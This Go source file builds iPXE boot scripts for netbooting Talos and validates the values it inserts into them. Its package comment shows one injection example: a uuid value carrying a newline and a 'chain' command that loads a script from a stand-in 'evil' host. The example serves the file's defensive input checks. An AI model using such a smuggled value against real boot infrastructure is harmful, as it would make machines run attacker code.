// Package boot decides what a network-booting machine is told, and writes
// the iPXE scripts that tell it (docs/api.md, "GET /ipxe"): the generic
// /boot.ipxe that finds the booting NIC, a netboot of Talos with its
// machine config, a maintenance-mode netboot for unknown machines, or a
// local-disk boot.
//
// Everything here is a pure function over values; the HTTP handlers that
// serve the scripts live with the boot flow.
//
// # Values in scripts
//
// iPXE reads a script a line at a time (a line ends at LF; a trailing CR is
// dropped and a trailing backslash joins the next line), splits each line
// into words at whitespace, expands every "${" setting inside a word,
// treats a word starting with "#" as the start of a comment to the end of
// the line, and a word "||", "&&" or ";" as the end of one command and the
// start of the next (iPXE's src/core/exec.c and src/image/script.c). A value
// that reached a script unchecked could therefore add lines or commands to
// it: a uuid of "x\nchain http://evil/evil.ipxe" filled into ${uuid} would.
//
// So NetbootScript and KernelArgs check every value after ${mac}, ${uuid}
// and ${hostname} are filled in, and return an error naming the machine and
// the field (a *ValueError), with no script at all, when one
//
//   - is empty, or longer than maxValue (2047 bytes);
//   - holds a byte other than printable ASCII, '!' to '~': a space, TAB, CR,
//     LF, NUL or other control character, DEL, or any non-ASCII byte;
//   - holds "${";
//   - stands as a word of its own (a kernel argument, the base URL, the
//     Talos version in the echo line) and starts with "#" or is "||", "&&"
//     or ";".
//
// The values checked are the uuid and hostname themselves (when set and a
// kernel argument uses them), each kernel argument as it will be written (the
// factory's cmdline, the profile's kernelArgs, talos.config with its URL),
// the base URL, schematic ID, Talos version and arch; a ${uuid} is filled
// only with a canonical SMBIOS UUID (machine.ParseUUID), printed in
// canonical form. The whole kernel command line must also fit what Linux
// keeps (COMMAND_LINE_SIZE, NUL included: 2048 bytes on x86-64 and
// arm64; CmdlineLimit), since the kernel would silently cut the rest. No
// value ends a line, so a trailing backslash cannot
// join two. A script therefore consists of its template's lines only,
// each starting with the template's own command; FuzzNetbootScript checks
// exactly that.
package boot

import (
	"fmt"
	"slices"
	"strings"

	"github.com/tinderbox-boot/tinderbox/pkg/machine"
)

// Action is what a machine is told to do on this boot.
type Action string

// The actions a script request can get.
const (
	// Netboot: boot Talos from the network with the machine's config.
	Netboot Action = "netboot"
	// Maintenance: boot Talos from the network with no config (an unknown
	// machine under `unknown: maintenance`).
	Maintenance Action = "maintenance"
	// LocalBoot: boot the local disk.
	LocalBoot Action = "local"
	// Ignore: tell nothing (an unknown machine under `unknown: ignore`).
	Ignore Action = "ignore"
)

// Decide returns the action for a machine in state st (after
// Machine.ScriptServed); known says whether it has a profile.
func Decide(st machine.State, known bool, unknown machine.Unknown) Action {
	if !known {
		switch unknown {
		case machine.UnknownLocal:
			return LocalBoot
		case machine.UnknownIgnore:
			return Ignore
		}
		return Maintenance
	}
	switch st {
	case machine.Pending, machine.Installing, machine.Failed, machine.Netboot:
		return Netboot
	}
	return LocalBoot
}

// retryDelay is how long a failed script waits before it tries again: long
// enough to read the message on the console, short enough that a node
// waiting on a factory fetch boots soon after it completes.
const retryDelay = 10

// GenericScript returns /boot.ipxe: it finds the NIC that has an address (net0
// to net3, as multi-NIC boxes need), runs DHCP on each when none has, and
// chains to /ipxe with that NIC's MAC, the SMBIOS UUID and iPXE's build
// arch. It only uses commands the 2019 iPXE builds of Debian and Ubuntu
// have (no counters: "inc" is missing there), and never drops to a shell.
func GenericScript(baseURL string) string {
	var b strings.Builder
	b.WriteString("#!ipxe\n# tinderbox: find the booting NIC, then ask for this machine's script\n")
	b.WriteString(":find\n")
	// Four NICs cover the boxes this is for; iPXE numbers them net0…
	for i := range 4 {
		fmt.Fprintf(&b, "isset ${net%d/ip} && set nic net%d && goto found ||\n", i, i)
	}
	b.WriteString("echo tinderbox: no NIC has an address; asking DHCP\n")
	for i := range 4 {
		fmt.Fprintf(&b, "ifconf --configurator dhcp net%d && goto find ||\n", i)
	}
	fmt.Fprintf(&b, "echo tinderbox: no NIC got an address from DHCP; retrying in %d seconds\nsleep %d\ngoto find\n", retryDelay, retryDelay)
	b.WriteString(":found\n")
	fmt.Fprintf(&b, "chain --replace %s/ipxe?mac=${${nic}/mac:hexhyp}&uuid=${uuid}&arch=${buildarch} || goto failed\n", baseURL)
	b.WriteString(":failed\n")
	fmt.Fprintf(&b, "echo tinderbox: could not fetch this machine's script from %s (error ${errno}); retrying in %d seconds\n", baseURL, retryDelay)
	fmt.Fprintf(&b, "sleep %d\ngoto find\n", retryDelay)
	return b.String()
}

// The ways of telling a machine to boot its disk (config ipxe.localBoot).
const (
	// LocalExit returns to the firmware, which tries its next boot device.
	LocalExit = "exit"
	// LocalSanboot boots the first BIOS disk (drive 0x80) from iPXE.
	LocalSanboot = "sanboot"
	// LocalNotFound answers "not found", which fails iPXE's chain so the
	// firmware moves on; for firmware that ignores iPXE's exit.
	LocalNotFound = "notfound"
)

// LocalScript returns the answer telling a machine to boot its disk, by
// method (LocalExit, LocalSanboot or LocalNotFound; anything else is
// LocalExit). notFound is true when the body must be sent as a "not found"
// answer rather than as a script.
func LocalScript(method string, mac machine.MAC) (body string, notFound bool) {
	switch method {
	case LocalSanboot:
		return fmt.Sprintf("#!ipxe\n# tinderbox: %s boots its local disk\necho tinderbox: booting the local disk\nsanboot --no-describe --drive 0x80 || exit 1\n", mac), false
	case LocalNotFound:
		return "tinderbox: " + mac.String() + " boots its local disk\n", true
	}
	return fmt.Sprintf("#!ipxe\n# tinderbox: %s boots its local disk\necho tinderbox: booting the local disk\nexit 1\n", mac), false
}

// NetbootParams describes a network boot of Talos.
type NetbootParams struct {
	// BaseURL is tinderbox's boot HTTP address as nodes reach it
	// (http://192.168.1.5:8080).
	BaseURL string
	// MAC, UUID and Hostname fill ${mac} (colon form), ${uuid} and
	// ${hostname} in kernel arguments. UUID is "" (${uuid} is then empty)
	// or an SMBIOS UUID in the form machine.ParseUUID reads, filled in
	// canonical form; Hostname is "" or a host name.
	MAC            machine.MAC
	UUID, Hostname string
	// SchematicID and Version select the assets, Arch their architecture.
	SchematicID, Version string
	Arch                 machine.Arch
	// Cmdline is the factory's cmdline-metal-ARCH for the schematic and version.
	Cmdline string
	// KernelArgs are the profile's: appended, "-name" removes an argument.
	KernelArgs []string
	// ConfigURL is the talos.config URL; empty for a maintenance boot.
	ConfigURL string
	// Own are tinderbox's own arguments (talos.events.sink=…,
	// talos.logging.kernel=…). They go first, right after talos.config,
	// ahead of the factory's and the profile's, so that what matters most
	// to the install is never what a long command line loses; a profile's
	// "-name" still removes one.
	Own []string
}

// ValueError is the error of NetbootScript and KernelArgs for a value
// that would change the script's shape or the kernel's command line (see
// the package doc, "Values in scripts").
type ValueError struct {
	// MAC is the machine the script is for.
	MAC machine.MAC
	// Field names the value: "uuid", "hostname", "kernel argument",
	// "factory cmdline", "talos.config URL", "kernel command line",
	// "base URL", "schematic ID", "version" or "arch".
	Field string
	// Value is the offending value, cut to its first 64 bytes.
	Value string
	// Len is the value's whole length in bytes.
	Len int
	// Reason says what is wrong with it.
	Reason string
}

// Error returns "boot: machine MAC: FIELD "VALUE": REASON", with at most 64
// bytes of the value quoted.
func (e *ValueError) Error() string {
	v := fmt.Sprintf("%q", e.Value)
	if e.Len > len(e.Value) {
		v += fmt.Sprintf("… (%d bytes)", e.Len)
	}
	return fmt.Sprintf("boot: machine %s: %s %s: %s", e.MAC, e.Field, v, e.Reason)
}

// maxValue is the longest value a script may hold: the longest x86-64
// kernel command line.
const maxValue = 2047

// CmdlineLimit is the longest kernel command line arch keeps, in bytes:
// Linux keeps COMMAND_LINE_SIZE bytes of it, NUL included, and silently
// cuts the rest. COMMAND_LINE_SIZE is 2048 on x86-64
// (arch/x86/include/asm/setup.h) and on arm64
// (arch/arm64/include/uapi/asm/setup.h; a 2019 proposal to raise it to 4096
// was not merged, and Linux 6.x still has 2048). It takes the arch so that
// an arch with another limit changes this one place.
func CmdlineLimit(machine.Arch) int {
	return 2047
}

// valueError returns a *ValueError for field holding v, or nil when v is a
// valid script value; word says v stands as a whole word of its line.
func valueError(mac machine.MAC, field, v string, word bool) error {
	if reason := valueProblem(v, word); reason != "" {
		return newValueError(mac, field, v, reason)
	}
	return nil
}

// newValueError returns the *ValueError for field holding v, keeping at
// most 64 bytes of v.
func newValueError(mac machine.MAC, field, v, reason string) *ValueError {
	return &ValueError{MAC: mac, Field: field, Value: v[:min(len(v), 64)], Len: len(v), Reason: reason}
}

// valueProblem says what makes v unfit for a script, or "" when nothing
// does (the rules of the package doc).
func valueProblem(v string, word bool) string {
	switch {
	case v == "":
		return "empty"
	case len(v) > maxValue:
		return fmt.Sprintf("%d bytes, longer than the %d the kernel keeps", len(v), maxValue)
	}
	for i := 0; i < len(v); i++ {
		switch c := v[i]; {
		case c == ' ':
			return "holds a space, which would split it in two"
		case c < ' ' || c == 0x7f:
			return fmt.Sprintf("holds the control character %q, which could end the line or the word", c)
		case c > 0x7f:
			return "holds a byte that is not ASCII"
		}
	}
	switch {
	case strings.Contains(v, "${"):
		return "holds \"${\", which iPXE would expand; only ${mac}, ${uuid} and ${hostname} are filled in, by tinderbox"
	case word && v[0] == '#':
		return "starts with \"#\", which would comment out the rest of the line in iPXE"
	case word && (v == "||" || v == "&&" || v == ";"):
		return "is an iPXE command separator"
	}
	return ""
}

// NetbootScript returns the iPXE script that boots Talos per p. It fails,
// returning "" and a *ValueError, when a value breaks the rules of the
// package doc ("Values in scripts"), among them a ${…} placeholder
// tinderbox cannot fill.
func NetbootScript(p NetbootParams) (string, error) {
	for _, v := range []struct {
		field, v string
		word     bool
	}{
		{"base URL", p.BaseURL, true},
		{"schematic ID", p.SchematicID, false},
		{"version", p.Version, true},
		{"arch", string(p.Arch), false},
	} {
		if err := valueError(p.MAC, v.field, v.v, v.word); err != nil {
			return "", err
		}
	}
	args, err := KernelArgs(p)
	if err != nil {
		return "", err
	}
	assets := fmt.Sprintf("%s/assets/%s/%s", p.BaseURL, p.SchematicID, p.Version)
	initrd := "initramfs-" + string(p.Arch) + ".xz"
	var b strings.Builder
	b.WriteString("#!ipxe\n")
	what := "netboot Talos " + p.Version
	if p.ConfigURL == "" {
		what = "maintenance-mode boot of Talos " + p.Version + " (no machine config)"
	}
	fmt.Fprintf(&b, "# tinderbox: %s for %s\n", what, p.MAC)
	b.WriteString(":retry\n")
	b.WriteString("imgfree\n")
	fmt.Fprintf(&b, "echo tinderbox: loading Talos %s (%s)\n", p.Version, p.Arch)
	// initrd=NAME lets the kernel's EFI stub find the initramfs under the
	// UEFI build of iPXE from 2019 (docs/protocol.md, "iPXE"); iPXE names
	// the image after its URL's last segment. BIOS ignores it.
	fmt.Fprintf(&b, "kernel %s/kernel-%s initrd=%s %s || goto failed\n", assets, p.Arch, initrd, strings.Join(args, " "))
	fmt.Fprintf(&b, "initrd %s/%s || goto failed\n", assets, initrd)
	b.WriteString("boot || goto failed\n")
	b.WriteString(":failed\n")
	fmt.Fprintf(&b, "echo tinderbox: boot failed (error ${errno}); tinderbox may still be fetching Talos from the Image Factory. Retrying in %d seconds\n", retryDelay)
	fmt.Fprintf(&b, "sleep %d\ngoto retry\n", retryDelay)
	return b.String(), nil
}

// KernelArgs returns the kernel command line of a netboot: talos.config,
// then tinderbox's own arguments (p.Own), then the factory's cmdline, then
// the profile's arguments (an argument "-name" removes every earlier
// argument named name, with or without a value; talos.config cannot be
// removed or replaced). ${mac}, ${uuid} and ${hostname} are filled in here, so
// iPXE, which would expand any ${…} itself, passes them on as written.
// Every argument is checked after filling in, and the whole line, with the
// image name and initrd= NetbootScript adds, against the kernel's limit;
// a failure is a *ValueError (package doc, "Values in scripts").
func KernelArgs(p NetbootParams) ([]string, error) {
	if len(p.Cmdline) > maxValue {
		return nil, valueError(p.MAC, "factory cmdline", p.Cmdline, false)
	}
	var args []kernelArg
	for _, a := range p.Own {
		args = append(args, kernelArg{a, "tinderbox argument"})
	}
	for _, a := range strings.Fields(p.Cmdline) {
		args = append(args, kernelArg{a, "factory cmdline"})
	}
	for _, a := range p.KernelArgs {
		if name, ok := strings.CutPrefix(a, "-"); ok && name != "" {
			args = slices.DeleteFunc(args, func(x kernelArg) bool { return argName(x.text) == name })
			continue
		}
		args = append(args, kernelArg{a, "kernel argument"})
	}
	if p.ConfigURL != "" {
		if err := valueError(p.MAC, "talos.config URL", p.ConfigURL, false); err != nil {
			return nil, err
		}
		args = slices.DeleteFunc(args, func(x kernelArg) bool { return argName(x.text) == "talos.config" })
		args = slices.Insert(args, 0, kernelArg{"talos.config=" + p.ConfigURL, "talos.config URL"})
	}
	fill, err := filler(p, args)
	if err != nil {
		return nil, err
	}
	// The command line's length as the kernel gets it: iPXE's EFI build
	// puts the image's name first, and NetbootScript adds initrd=.
	n := len("kernel-" + string(p.Arch) + " initrd=initramfs-" + string(p.Arch) + ".xz")
	out := make([]string, 0, len(args))
	fields := make([]string, 0, len(args))
	for _, a := range args {
		if len(a.text) > maxValue {
			return nil, newValueError(p.MAC, a.field, a.text, fmt.Sprintf("longer than the %d bytes the kernel keeps", maxValue))
		}
		text := a.text
		// Most arguments hold no placeholder; the replacer is built on
		// its first use, which costs more than the rest of the script.
		if strings.Contains(text, "${") {
			text = fill.Replace(text)
		}
		if reason := valueProblem(text, true); reason != "" {
			if text != a.text {
				reason += fmt.Sprintf(" (from %s with ${mac}, ${uuid} and ${hostname} filled in)", clip(a.text))
			}
			return nil, newValueError(p.MAC, a.field, text, reason)
		}
		n += 1 + len(text)
		out = append(out, text)
		fields = append(fields, a.field)
	}
	if limit := CmdlineLimit(p.Arch); n > limit {
		return nil, newValueError(p.MAC, "kernel command line", strings.Join(out, " "),
			fmt.Sprintf("%d bytes with the image name and initrd=, longer than the %d an %s kernel keeps: it would cut the rest. %s",
				n, limit, p.Arch, overLimit(out, fields, n-limit)))
	}
	return out, nil
}

// overLimit says which arguments a line that is over bytes too long would
// lose and which profile arguments are the longest, so the fix can be
// chosen: the kernel keeps the start of the line, so what is cut is its
// end, and the profile's own arguments come last.
func overLimit(args, fields []string, over int) string {
	var b strings.Builder
	cut, lost := 0, []string{}
	for i := len(args) - 1; i >= 0 && cut < over; i-- {
		cut += 1 + len(args[i])
		lost = append(lost, clip(argName(args[i])))
	}
	slices.Reverse(lost)
	fmt.Fprintf(&b, "%d bytes over: the kernel would lose %s", over, strings.Join(lost, ", "))
	type sized struct {
		name string
		n    int
	}
	var profile []sized
	for i, a := range args {
		if fields[i] == "kernel argument" {
			profile = append(profile, sized{clip(argName(a)), len(a)})
		}
	}
	slices.SortStableFunc(profile, func(a, b sized) int { return b.n - a.n })
	if len(profile) > 3 {
		profile = profile[:3]
	}
	if len(profile) > 0 {
		parts := make([]string, len(profile))
		for i, s := range profile {
			parts[i] = fmt.Sprintf("%s (%d bytes)", s.name, s.n)
		}
		fmt.Fprintf(&b, "; the profile's longest kernelArgs: %s", strings.Join(parts, ", "))
	}
	return b.String()
}

// kernelArg is a kernel argument before ${…} are filled in, with the field
// it came from for a ValueError.
type kernelArg struct{ text, field string }

// filler returns the replacer of ${mac}, ${uuid} and ${hostname}. The uuid
// and hostname are checked only when an argument uses their placeholder:
// the uuid must then be "" or an SMBIOS UUID (machine.ParseUUID), filled in
// canonical form, and the hostname "" or a valid script value.
func filler(p NetbootParams, args []kernelArg) (*strings.Replacer, error) {
	uses := func(placeholder string) bool {
		return slices.ContainsFunc(args, func(a kernelArg) bool { return strings.Contains(a.text, placeholder) })
	}
	var uuid string
	if p.UUID != "" && uses("${uuid}") {
		u, err := machine.ParseUUID(p.UUID)
		if err != nil {
			return nil, newValueError(p.MAC, "uuid", p.UUID, "not an SMBIOS UUID: want 8-4-4-4-12 hex digits, neither all 0 nor all f")
		}
		uuid = u.String()
	}
	if p.Hostname != "" && uses("${hostname}") {
		if err := valueError(p.MAC, "hostname", p.Hostname, false); err != nil {
			return nil, err
		}
	}
	return strings.NewReplacer("${mac}", p.MAC.String(), "${uuid}", uuid, "${hostname}", p.Hostname), nil
}

// clip quotes s for an error message, cut to its first 64 bytes.
func clip(s string) string {
	if len(s) > 64 {
		return fmt.Sprintf("%q…", s[:64])
	}
	return fmt.Sprintf("%q", s)
}

// argName is a kernel argument's name: the part before "=".
func argName(arg string) string {
	name, _, _ := strings.Cut(arg, "=")
	return name
}
